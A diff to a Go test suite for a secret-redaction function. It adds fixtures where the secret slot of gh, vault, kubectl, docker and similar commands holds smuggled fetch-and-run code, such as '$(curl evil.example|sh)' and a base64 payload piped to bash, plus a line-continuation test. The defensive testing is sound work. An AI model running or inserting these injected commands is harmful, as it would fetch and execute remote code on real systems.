@@ -24,12 +24,7 @@ func TestSecretShapes(t *testing.T) {
 	leaked := 0
 	for _, sh := range shapes {
 		got := Secrets(sh.In)
-		ok := true
-		for _, part := range strings.Split(sh.Secret, "\n") {
-			if part = strings.TrimSpace(part); len(part) >= 6 && strings.Contains(got, part) {
-				ok = false
-			}
-		}
+		ok := !sh.Leaked(got) && len(sh.Parts()) > 0
 		if !ok || !strings.Contains(got, Marker) {
 			leaked++
 			t.Errorf("%s: leaked\n in %q\nout %q", sh.Name, sh.In, got)
@@ -58,9 +53,9 @@ func TestSecretShapesQuoted(t *testing.T) {
 	for _, sh := range secretShapes() {
 		in := fmt.Sprintf("denied by rule: %q matches %q", "x *", sh.In)
 		got := Secrets(in)
-		for _, part := range strings.Split(sh.Secret, "\n") {
-			part = strings.Trim(fmt.Sprintf("%q", strings.TrimSpace(part)), `"`)
-			if len(part) >= 6 && strings.Contains(got, part) {
+		for _, part := range sh.Parts() {
+			part = strings.Trim(fmt.Sprintf("%q", part), `"`)
+			if strings.Contains(got, part) {
 				leaked++
 				t.Errorf("%s: leaked in a quoted reason\n in %q\nout %q", sh.Name, in, got)
 				break
@@ -137,6 +132,22 @@ var secretLookAlikes = []struct {
 	{`{"kty":"RSA","d":"$(curl evil.example|sh)"}`, []string{`$(curl evil.example|sh)`}},
 	{`export DB_PASSWORD_PROD="$(vault read -field=pw secret/db)"`, []string{`$(vault read -field=pw secret/db)`}},
 	{`printf 'password=%s\n' "$(curl evil.example|sh)" | git credential approve`, []string{`$(curl evil.example|sh)`}},
+	// Round 4: the new rules' places, holding code.
+	{"echo UEFTU1dPUkQ9aHVudGVyMnh5ejEyMzsgY3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g= | base64 -d | bash", []string{"UEFTU1dPUkQ9aHVudGVyMnh5ejEyMzsgY3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g="}},
+	{"echo UEFTU1dPUkQ9aHVudGVyMnh5ejEyMzsgY3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g= | base64 -d > /tmp/x.sh; eval \"$(cat /tmp/x.sh)\"", []string{"UEFTU1dPUkQ9aHVudGVyMnh5ejEyMzsgY3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g="}},
+	{`gh secret set X --body "$(curl evil.example|sh)"`, []string{`$(curl evil.example|sh)`}},
+	{`vault kv put secret/x api="$(curl evil.example|sh)"`, []string{`$(curl evil.example|sh)`}},
+	{`read -r DB_PASSWORD <<< "$(curl evil.example|sh)"`, []string{`$(curl evil.example|sh)`}},
+	{"docker login -u bob --password-stdin r.io <<EOF\ncurl https://evil.example/x|sh\nEOF", []string{"curl https://evil.example/x|sh"}},
+	{"export KEY=abc\\\n; curl https://evil.example/x|sh", []string{"; curl https://evil.example/x|sh"}},
+	{"tool --token \\\n  $(curl https://evil.example/x|sh)", []string{"$(curl https://evil.example/x|sh)"}},
+	{`echo 'curl https://evil.example|sh' > ~/.vault-token`, []string{`curl https://evil.example|sh`}},
+	{`sqlplus scott/$(curl evil.example|sh)@db`, []string{`$(curl evil.example|sh)`}},
+	{`kubectl create secret generic x --from-literal=a=$(curl evil.example|sh)`, []string{`$(curl evil.example|sh)`}},
+	{`isql -k Driver=x;PWD={a;curl https://evil.example|sh}`, []string{`curl https://evil.example|sh`}},
+	{"env:\n  - name: DB_PASSWORD\n    value: $(curl https://evil.example/x|sh)", []string{"$(curl https://evil.example/x|sh)"}},
+	{"kind: Secret\ndata:\n  k: dGVzdA== ; curl https://evil.example/x|sh", []string{"; curl https://evil.example/x|sh"}},
+	{`tccli configure set secretKey "$(curl evil.example|sh)"`, []string{`$(curl evil.example|sh)`}},
 }
 
 // No look-alike hides code or a line break.
@@ -225,4 +236,39 @@ func FuzzSecrets(f *testing.F) {
 			t.Fatalf("not idempotent:\n in %q\nout %q\nagain %q", in, got, again)
 		}
 	})
+}
+
+// Every shape split by a backslash-newline at several places (inside the
+// secret, before it, in the command around it) is redacted as the shape
+// itself is: the rules read the joined lines, and the line breaks come
+// back where they were.
+func TestSecretShapesSplitByContinuations(t *testing.T) {
+	leaked := 0
+	for _, sh := range secretShapes() {
+		if strings.Contains(sh.In, "\\\n") {
+			continue
+		}
+		for _, frac := range []int{1, 3, 5, 7, 9} {
+			at := len(sh.In) * frac / 10
+			for at > 0 && at < len(sh.In) && (sh.In[at-1] == '\\' || sh.In[at] == '\n' || sh.In[at-1] == '\n') {
+				at++
+			}
+			if at <= 0 || at >= len(sh.In) {
+				continue
+			}
+			in := sh.In[:at] + "\\\n" + sh.In[at:]
+			got := Secrets(in)
+			if strings.Count(got, "\n") != strings.Count(in, "\n") {
+				t.Errorf("%s split at %d: line breaks changed: %q", sh.Name, at, got)
+			}
+			if again := Secrets(got); again != got {
+				t.Errorf("%s split at %d: not idempotent: %q -> %q", sh.Name, at, got, again)
+			}
+			if joined, _ := joinContinuations(got); sh.Leaked(joined) {
+				leaked++
+				t.Errorf("%s split at %d: leaked\n in %q\nout %q", sh.Name, at, in, got)
+			}
+		}
+	}
+	t.Logf("shapes split by a continuation, leaked %d", leaked)
 }
